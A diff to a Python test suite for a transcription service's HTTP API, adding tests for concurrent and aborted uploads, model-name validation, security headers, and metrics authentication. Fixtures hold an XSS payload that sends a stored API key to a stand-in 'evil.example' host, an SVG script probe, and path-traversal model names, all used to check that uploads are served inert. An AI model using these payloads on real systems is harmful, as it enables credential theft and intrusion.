@@ -5,7 +5,11 @@ No model here: a job is finished through the service functions, as a worker woul
 
 from __future__ import annotations
 
+import socket
+import threading
+import time
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -22,6 +26,8 @@ from swescribe.core.work import claim_job, complete_job
 from tests.support import free_port, serving
 
 MAX_UPLOAD = 64 * 1024
+METRICS_TOKEN = "metrics-token-for-tests-0123456789"
+SCRAPER = {"Authorization": f"Bearer {METRICS_TOKEN}"}
 
 
 @dataclass
@@ -45,6 +51,8 @@ def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
         public_url=f"http://127.0.0.1:{port}",
         max_upload_bytes=MAX_UPLOAD,
         rate_limit_per_minute=0,  # the limits have their own tests (test_api_limits.py)
+        auth_failures_per_minute=0,
+        metrics_token=METRICS_TOKEN,
     )
     svc = build_local_services(settings)
     _, key = build_local_keys(settings).create("tests")
@@ -96,6 +104,53 @@ def test_an_upload_is_stored_under_the_jobs_prefix_and_launches_the_job(api: Api
     again = put(str(body["upload_url"]), b"other", "b.wav")
     assert again.status_code == 409
     assert again.json()["error"]["code"] == "conflict"
+
+
+def test_eight_racing_puts_to_one_link_store_exactly_one_file(api: Api) -> None:
+    body = register(api)
+    url = str(body["upload_url"])
+    start = threading.Barrier(8)
+
+    def upload(number: int) -> httpx.Response:
+        def chunks() -> Iterator[bytes]:
+            start.wait()
+            for _ in range(16):
+                yield b"\0" * 1024
+
+        return httpx.put(url, params={"filename": f"file{number}.wav"}, content=chunks())
+
+    with ThreadPoolExecutor(max_workers=8) as pool:
+        answers = list(pool.map(upload, range(8)))
+    codes = sorted(answer.status_code for answer in answers)
+    assert codes == [200] + [409] * 7, [answer.text for answer in answers]
+    for answer in answers:
+        if answer.status_code == 409:
+            assert answer.json()["error"]["code"] == "conflict"
+    stored = list((api.data_dir / "objects" / str(body["upload_path"])).iterdir())
+    assert len(stored) == 1
+    assert stored[0].stat().st_size == 16 * 1024
+    assert list((api.data_dir / "staging").glob("upload-*")) == []
+
+
+def test_an_aborted_upload_leaves_nothing_and_the_link_can_be_used_again(api: Api) -> None:
+    body = register(api)
+    url = httpx.URL(str(body["upload_url"]))
+    with socket.create_connection((url.host, url.port or 80), timeout=10) as raw:
+        raw.sendall(
+            f"PUT {url.raw_path.decode()}?filename=cut.wav HTTP/1.1\r\n"
+            f"Host: {url.host}\r\nContent-Length: 100000\r\n\r\n".encode()
+            + b"\0" * 5000
+        )
+        time.sleep(0.3)  # the server is streaming it now
+    upload_dir = api.data_dir / "objects" / str(body["upload_path"])
+    deadline = time.monotonic() + 10
+    again = put(str(body["upload_url"]), b"RIFF-whole", "whole.wav")
+    while again.status_code == 409 and time.monotonic() < deadline:
+        time.sleep(0.1)
+        again = put(str(body["upload_url"]), b"RIFF-whole", "whole.wav")
+    assert again.status_code == 200, again.text
+    assert [path.name for path in upload_dir.iterdir()] == ["whole.wav"]
+    assert list((api.data_dir / "staging").glob("upload-*")) == []
 
 
 def test_oversized_uploads_are_refused_while_streaming_and_leave_nothing(api: Api) -> None:
@@ -213,7 +268,7 @@ def test_auth_errors_and_unknown_routes_are_json(api: Api) -> None:
 def test_health_metrics_and_openapi(api: Api) -> None:
     with httpx.Client(base_url=api.url) as http:
         health = http.get("/healthz").json()
-        metrics = http.get("/metrics")
+        metrics = http.get("/metrics", headers=SCRAPER)
         schema = http.get("/openapi.json").json()
     assert health["status"] == "ok"
     assert metrics.headers["content-type"].startswith("text/plain")
@@ -277,7 +332,7 @@ def test_a_job_without_stored_audio_has_no_audio_link(api: Api) -> None:
 
 
 def metric_values(api: Api) -> dict[str, float]:
-    text = httpx.get(f"{api.url}/metrics", timeout=10).text
+    text = httpx.get(f"{api.url}/metrics", headers=SCRAPER, timeout=10).text
     return {
         name: float(value)
         for name, _, value in (line.rpartition(" ") for line in text.splitlines())
@@ -316,3 +371,128 @@ def test_metrics_totals_count_finished_work_and_never_go_down_when_jobs_are_dele
     assert after_delete['swescribe_jobs{status="completed"}'] == (
         done['swescribe_jobs{status="completed"}'] - 1
     ), "the gauge of stored jobs does go down"
+
+
+@pytest.mark.parametrize("model", ["..", ".", "kb-whisper-large", "whisper-base", "auto.."])
+def test_a_model_the_operator_does_not_offer_is_a_422_naming_the_offered_ones(
+    api: Api, model: str
+) -> None:
+    # The fixture's service runs the default model `auto` and allows no other.
+    with api.http() as http:
+        response = http.post("/v1/jobs", json={"model": model})
+        listed = http.get("/v1/jobs", params={"limit": 200}).json()["jobs"]
+    assert response.status_code == 422, response.text
+    error = response.json()["error"]
+    assert error["code"] == "unknown_model"
+    assert "auto" in error["message"]
+    assert all(job["model"] != model for job in listed), "no job was stored"
+
+
+@pytest.mark.parametrize("model", ["../../etc", "/tmp", "KB-WHISPER", "a" * 65])
+def test_a_model_that_is_a_path_or_no_name_at_all_is_a_422(api: Api, model: str) -> None:
+    with api.http() as http:
+        response = http.post("/v1/jobs", json={"model": model})
+    assert response.status_code == 422
+    assert "model" in response.json()["error"]["message"]
+
+
+def test_the_offered_model_can_be_asked_for_by_name(api: Api) -> None:
+    with api.http() as http:
+        response = http.post("/v1/jobs", json={"model": "auto"})
+    assert response.status_code == 201, response.text
+    assert response.json()["model"] == "auto"
+
+
+EVIL_HTML = b"<!doctype html><script>fetch('//evil.example/?k='+localStorage.apiKey)</script>"
+EVIL_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
+
+
+@pytest.mark.parametrize("filename", ["evil.html", "evil.svg", "evil.xhtml", "evil"])
+def test_an_uploaded_page_or_svg_is_never_active_content_on_the_apis_origin(
+    api: Api, filename: str
+) -> None:
+    content = EVIL_SVG if filename.endswith(".svg") else EVIL_HTML
+    body = register(api)
+    assert put(str(body["upload_url"]), content, filename).status_code == 200
+    with api.http() as http:
+        url = http.get(f"/v1/jobs/{body['callback_id']}/audio-link").json()["url"]
+    served = httpx.get(url, timeout=10)  # what a victim's browser gets when it opens the link
+    assert served.status_code == 200
+    assert served.headers["content-type"] == "application/octet-stream"
+    assert served.headers["x-content-type-options"] == "nosniff"
+    assert served.headers["content-security-policy"].startswith("sandbox")
+    assert served.headers["content-disposition"].startswith("attachment")
+
+
+def test_uploaded_audio_is_served_with_a_fixed_audio_type_as_an_attachment(api: Api) -> None:
+    body = register(api)
+    assert put(str(body["upload_url"]), b"ID3" + b"\0" * 500, "möte.mp3").status_code == 200
+    with api.http() as http:
+        url = http.get(f"/v1/jobs/{body['callback_id']}/audio-link").json()["url"]
+    served = httpx.get(url, headers={"Range": "bytes=0-2"}, timeout=10)
+    assert served.status_code == 206
+    assert served.content == b"ID3"
+    assert served.headers["content-type"] == "audio/mpeg"
+    assert served.headers["content-disposition"].startswith("attachment")
+    assert "sandbox" in served.headers["content-security-policy"]
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("GET", "/healthz"),
+        ("GET", "/v1/jobs"),
+        ("POST", "/v1/jobs"),
+        ("GET", "/nope"),
+        ("GET", "/openapi.json"),
+        ("GET", "/docs"),
+        ("GET", "/"),
+        ("GET", "/web/app.js"),
+        ("PUT", "/v1/uploads/forged"),
+        ("GET", "/v1/objects/forged"),
+    ],
+)
+def test_every_response_carries_the_security_headers(api: Api, method: str, path: str) -> None:
+    with httpx.Client(base_url=api.url, timeout=10) as http:
+        response = http.request(method, path)
+    headers = response.headers
+    assert headers["x-content-type-options"] == "nosniff"
+    assert headers["referrer-policy"] == "no-referrer"
+    assert headers["x-frame-options"] == "DENY"
+    policy = headers["content-security-policy"]
+    assert "frame-ancestors 'none'" in policy
+    assert "'unsafe-inline'" not in policy.split("style-src")[0], "no inline script anywhere"
+    if headers["content-type"].startswith("application/json"):
+        assert policy.startswith("default-src 'none'")
+
+
+def test_the_api_docs_page_allows_only_its_own_inline_script_by_hash(api: Api) -> None:
+    import base64
+    import hashlib
+    import re
+
+    with httpx.Client(base_url=api.url, timeout=10) as http:
+        page = http.get("/docs")
+    assert page.status_code == 200
+    scripts = re.findall(r"<script>(.*?)</script>", page.text, re.S)
+    assert len(scripts) == 1
+    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
+    assert f"'sha256-{digest}'" in page.headers["content-security-policy"]
+
+
+def test_metrics_need_a_key_or_the_metrics_token_and_name_no_tenant(api: Api) -> None:
+    with api.http() as http:
+        job_id = http.post("/v1/jobs", json={}).json()["job_id"]
+    with httpx.Client(base_url=api.url, timeout=10) as http:
+        anonymous = http.get("/metrics")
+        wrong = http.get("/metrics", headers={"Authorization": "Bearer not-the-token"})
+        scraper = http.get("/metrics", headers=SCRAPER)
+        keyed = http.get("/metrics", headers={"X-API-Key": api.key})
+    for refused in (anonymous, wrong):
+        assert refused.status_code == 401
+        assert refused.json()["error"]["code"] == "unauthorized"
+    for allowed in (scraper, keyed):
+        assert allowed.status_code == 200
+        assert "swescribe_jobs{" in allowed.text
+        assert job_id not in allowed.text
+        assert api.key.split("_")[1] not in allowed.text, "no key id, no owner label"
